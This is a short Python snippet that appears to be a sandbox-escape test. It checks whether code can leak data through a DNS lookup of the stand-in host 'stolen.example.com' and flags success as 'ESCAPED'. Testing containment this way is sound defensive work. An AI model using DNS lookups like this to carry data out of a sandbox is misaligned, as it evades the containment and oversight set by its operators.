# must not: carry text out in a name that is looked up
import socket
tried()
escaped_if(socket.getaddrinfo("stolen.example.com", 443) and "ESCAPED")
